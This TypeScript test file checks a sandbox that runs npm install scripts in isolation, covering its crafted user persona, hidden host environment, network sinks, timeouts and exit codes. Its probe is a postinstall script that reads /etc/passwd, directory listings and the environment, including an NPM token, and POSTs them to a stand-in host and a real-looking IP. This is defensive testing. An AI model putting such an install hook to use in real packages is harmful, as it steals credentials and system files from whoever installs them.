import { strict as assert } from 'node:assert';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { createPersona } from './layout.js';
import { processTree, treeProcesses } from './process-tree.js';
import { checkSandboxSupport } from './support.js';
import { describeRun, ofKind, runFixture, timings } from './test-support/fixtures.js';

// Runs inside the sandbox: reports what it can see to a sink host, and tries to reach the host.
const PROBE = `
const fs = require('fs');
const http = require('http');
const os = require('os');
const tryList = (p) => { try { return fs.readdirSync(p); } catch (e) { return 'ERR ' + e.code; } };
const report = {
  root: tryList('/root'),
  work: fs.existsSync('/work'),
  passwd: fs.readFileSync('/etc/passwd', 'utf8'),
  hostname: os.hostname(),
  uid: process.getuid(),
  env: process.env,
  procs: tryList('/proc').filter((n) => /^\\d+$/.test(n)).length,
};
const post = (host, port, path, body) => new Promise((resolve) => {
  const req = http.request({ host, port, path, method: 'POST', timeout: 3000 }, (r) => { r.resume(); r.on('end', resolve); });
  req.on('error', resolve);
  req.on('timeout', () => { req.destroy(); resolve(); });
  req.end(body);
});
(async () => {
  await post('isolation.test', 80, '/report', JSON.stringify(report));
  await post('127.0.0.1', Number(process.env.npm_package_config_hostport || process.argv[2]), '/loopback', 'x');
  await post('93.184.216.34', 80, '/real', 'y');
})();
`;

describe('sandbox: isolation and limits', { concurrency: 2 }, () => {
  const dirs: string[] = [];
  after(async () => {
    for (const dir of dirs) await rm(dir, { recursive: true, force: true });
    for (const t of timings)
      process.stdout.write(`# sandbox timing ${t.fixture} ${t.phase}: ${t.ms} ms (${t.status})\n`);
  });

  async function makePackage(
    name: string,
    scripts: Record<string, string>,
    files: Record<string, string> = {},
  ): Promise<string> {
    const dir = await mkdtemp(join(tmpdir(), 'sr-iso-'));
    dirs.push(dir);
    await writeFile(join(dir, 'package.json'), JSON.stringify({ name, version: '1.0.0', scripts }));
    for (const [file, text] of Object.entries(files)) await writeFile(join(dir, file), text);
    return dir;
  }

  test('checkSandboxSupport tries every piece and reports ok on this machine', async () => {
    const support = await checkSandboxSupport();
    assert.equal(support.ok, true, JSON.stringify(support));
    assert.ok(support.details.some((d) => d.startsWith('bubblewrap: ok')));
    assert.ok(support.details.some((d) => d.startsWith('network namespace: ok')));
  });

  test('the host is invisible and every connection ends in the sinks, never on the host', async () => {
    const hits: string[] = [];
    const hostServer = createServer((req, res) => {
      hits.push(req.url ?? '');
      res.end('host');
    });
    await new Promise<void>((resolve) => hostServer.listen(0, '127.0.0.1', resolve));
    const port = (hostServer.address() as AddressInfo).port;
    const canary = `SR_HOST_CANARY_${Date.now()}`;
    process.env[canary] = 'host-only';
    try {
      const dir = await makePackage(
        'isolation-probe',
        { postinstall: `node probe.js ${port}` },
        { 'probe.js': PROBE },
      );
      const run = await runFixture(dir, 'install', { graceMs: 300 });
      assert.equal(run.status, 'completed', describeRun(run));
      const reportEvent = ofKind(run, 'http').find((e) => e.host === 'isolation.test');
      assert.ok(reportEvent, describeRun(run));
      const report = JSON.parse(reportEvent.body) as {
        root: unknown;
        work: boolean;
        passwd: string;
        hostname: string;
        uid: number;
        env: Record<string, string>;
        procs: number;
      };
      assert.equal(report.work, false, '/work is not visible');
      assert.ok(
        Array.isArray(report.root) ? report.root.length === 0 : true,
        '/root shows nothing of the host',
      );
      assert.ok(report.passwd.includes('maria:x:1000'), 'crafted /etc/passwd');
      assert.ok(
        !report.passwd.includes(process.env.USER ?? 'no-such-user-xyz') || process.env.USER === 'root',
      );
      assert.equal(report.hostname, 'maria-laptop');
      assert.equal(report.uid, 1000);
      assert.equal(report.env[canary], undefined, 'the host environment does not leak');
      assert.equal(report.env.CI, undefined);
      assert.equal(report.env.INIT_CWD, run.projectDir);
      assert.ok(report.env.NPM_TOKEN?.startsWith('npm_'));
      // The desktop's processes (process-tree.ts), npm and the probe; nothing of the host.
      const planned = treeProcesses(processTree(createPersona())).length;
      assert.ok(
        report.procs < planned + 20,
        `pid namespace shows only the sandbox (${report.procs} processes)`,
      );
      const loopback = ofKind(run, 'http').find((e) => e.path === '/loopback');
      assert.equal(loopback?.host, `127.0.0.1:${port}`, 'the loopback request reached the sink');
      assert.deepEqual(hits, [], 'nothing reached the host loopback');
      const real = ofKind(run, 'http').find((e) => e.path === '/real');
      assert.equal(real?.host, '93.184.216.34', 'the real-looking address landed in the sink');
      assert.ok(ofKind(run, 'connect').some((e) => e.address === '93.184.216.34' && e.port === 80));
    } finally {
      delete process.env[canary];
      hostServer.close();
    }
  });

  test('a hanging install script is recorded as a timeout, not as clean', async () => {
    const dir = await makePackage('hangs', { postinstall: 'sleep 60' });
    const started = Date.now();
    const run = await runFixture(dir, 'install', { timeoutMs: 2_500 });
    assert.equal(run.status, 'timeout', describeRun(run));
    assert.ok(run.error?.includes('2500'));
    assert.ok(Date.now() - started < 15_000, 'the tree was killed promptly');
  });

  test('a failing install script completes with its exit code', async () => {
    const dir = await makePackage('fails', { preinstall: 'exit 3', postinstall: 'echo never' });
    const run = await runFixture(dir, 'install', { graceMs: 200 });
    assert.equal(run.status, 'completed', describeRun(run));
    assert.equal(run.exitCode, 3);
    assert.ok(
      !ofKind(run, 'process').some((e) => e.argv.includes('echo never')),
      'npm stops at the first failing script',
    );
  });
});
